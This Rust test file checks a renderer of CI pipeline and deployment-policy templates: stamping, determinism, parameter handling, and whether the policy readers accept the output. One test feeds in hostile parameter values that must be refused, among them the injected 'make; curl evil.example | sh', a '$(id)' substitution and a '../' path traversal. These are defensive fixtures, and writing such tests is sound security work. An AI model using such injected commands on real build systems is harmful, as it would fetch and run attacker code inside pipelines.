//! Rendering: every template, deterministic, stamped, with policy files the policy readers accept, and
//! parameters outside their ranges refused.

use provenant_templates::{Ci, ParameterError, Workload, params, render};

#[test]
fn every_template_renders_stamped_files() {
    for ci in Ci::ALL {
        for w in Workload::ALL {
            let values = params::resolve(w, ci, &[]).unwrap();
            let files = render(w, ci, &values).unwrap();
            let paths: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
            let pipeline = provenant_templates::pipeline_path(w, ci);
            let mut expected = vec![
                pipeline.as_str(),
                "provenant/environments.yaml",
                "provenant/gate-policy.yaml",
                "provenant/roles.yaml",
            ];
            expected.sort_unstable();
            assert_eq!(paths, expected);
            for f in &files {
                assert!(
                    f.content
                        .starts_with(&format!("# provenant-template: {w}-{ci}@1.0.0\n")),
                    "{}",
                    f.path
                );
                assert!(
                    !f.content.replace("${{", "").contains("{{"),
                    "{}: unrendered placeholder",
                    f.path
                );
            }
        }
    }
}

#[test]
fn rendering_is_deterministic() {
    for ci in Ci::ALL {
        for w in Workload::ALL {
            let settings = vec![("name".to_owned(), "shop".to_owned())];
            let a = render(w, ci, &params::resolve(w, ci, &settings).unwrap()).unwrap();
            let b = render(w, ci, &params::resolve(w, ci, &settings).unwrap()).unwrap();
            assert_eq!(a, b);
        }
    }
}

#[test]
fn parameters_reach_the_files() {
    let settings: Vec<(String, String)> = [
        ("name", "shop"),
        ("registry", "oci:/srv/registry"),
        ("prod_approvals", "2"),
        ("gate_max_age_hours", "12"),
        ("strategy", "canary"),
        ("timeout_minutes", "45"),
    ]
    .iter()
    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
    .collect();
    let values = params::resolve(Workload::Container, Ci::Github, &settings).unwrap();
    let files = render(Workload::Container, Ci::Github, &values).unwrap();
    let get = |p: &str| {
        files
            .iter()
            .find(|f| f.path.ends_with(p))
            .unwrap()
            .content
            .clone()
    };
    let pipeline = get("provenant-container.yml");
    assert!(pipeline.contains("  APP: shop\n  REGISTRY: oci:/srv/registry\n"));
    assert!(pipeline.contains("--strategy canary"));
    assert!(pipeline.contains("timeout-minutes: 45"));
    assert!(pipeline.contains("# provenant-parameter: prod_approvals=2\n"));
    let envs = get("environments.yaml");
    assert!(envs.contains("repository: oci:/srv/registry/prod/shop"));
    assert!(envs.contains("count: 2"));
    assert!(envs.contains("max_age: 12h"));
}

#[test]
fn values_outside_the_ranges_are_refused() {
    let set = |k: &str, v: &str| vec![(k.to_owned(), v.to_owned())];
    let (w, ci) = (Workload::Container, Ci::Github);
    for (k, v) in [
        ("timeout_minutes", "4"),
        ("timeout_minutes", "121"),
        ("prod_approvals", "0"),
        ("strategy", "big-bang"),
        ("build_command", "make; curl evil.example | sh"),
        ("build_command", "echo $(id)"),
        ("rootfs", "../outside"),
        ("name", "Shop"),
        ("registry", "registry.example.com/\"x"),
    ] {
        assert!(
            matches!(
                params::resolve(w, ci, &set(k, v)),
                Err(ParameterError::OutOfRange { .. })
            ),
            "{k}={v} accepted"
        );
    }
    assert!(matches!(
        params::resolve(w, ci, &set("gate_policy", "lenient.yaml")),
        Err(ParameterError::Unknown { .. })
    ));
    // A parameter of another CI system or workload is unknown here.
    assert!(matches!(
        params::resolve(w, Ci::Gitlab, &set("runner", "ubuntu-24.04")),
        Err(ParameterError::Unknown { .. })
    ));
    assert!(matches!(
        params::resolve(w, ci, &set("iac_tool", "tofu")),
        Err(ParameterError::Unknown { .. })
    ));
    assert!(matches!(
        params::resolve(w, ci, &[set("name", "a").remove(0), set("name", "b").remove(0)]),
        Err(ParameterError::Duplicate { .. })
    ));
    // render() checks again, so a hand-built map cannot bypass the ranges.
    let mut values = params::resolve(w, ci, &[]).unwrap();
    values.insert("timeout_minutes".into(), "100000".into());
    assert!(render(w, ci, &values).is_err());
}

#[test]
fn the_policy_files_are_read_by_their_readers() {
    for ci in Ci::ALL {
        for w in Workload::ALL {
            let files = render(w, ci, &params::resolve(w, ci, &[]).unwrap()).unwrap();
            let get = |p: &str| {
                files
                    .iter()
                    .find(|f| f.path.ends_with(p))
                    .unwrap()
                    .content
                    .clone()
            };
            let policy =
                provenant_gate::Policy::from_yaml("gate-policy.yaml", get("gate-policy.yaml").as_bytes());
            assert!(policy.is_ok(), "{policy:?}");
            let roles =
                provenant_gate::exception::RolesFile::from_yaml("roles.yaml", get("roles.yaml").as_bytes())
                    .unwrap();
            assert_eq!(
                roles.roles.keys().map(String::as_str).collect::<Vec<_>>(),
                ["ci", "release-manager", "security-lead"]
            );
            let envs: serde_json::Value = yaml_serde::from_str(&get("environments.yaml")).unwrap();
            let names: Vec<&str> = envs["environments"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["name"].as_str().unwrap())
                .collect();
            assert_eq!(names, ["dev", "test", "uat", "prod"]);
            let triggers: Vec<&str> = envs["environments"]
                .as_array()
                .unwrap()
                .iter()
                .map(|e| e["trigger"].as_str().unwrap())
                .collect();
            assert_eq!(
                triggers,
                ["on-commit", "on-merge", "on-release-candidate", "on-approval"]
            );
            assert_eq!(
                envs["environments"][3]["requires"]["approvals"]["roles"][0],
                "release-manager"
            );
            assert_eq!(envs["environments"][0]["requires"]["provenance"]["role"], "ci");
            assert_eq!(envs["environments"][1]["requires"]["gate_decision"]["role"], "ci");
            assert_eq!(envs["environments"][1]["promote_roles"][0], "ci");
        }
    }
}
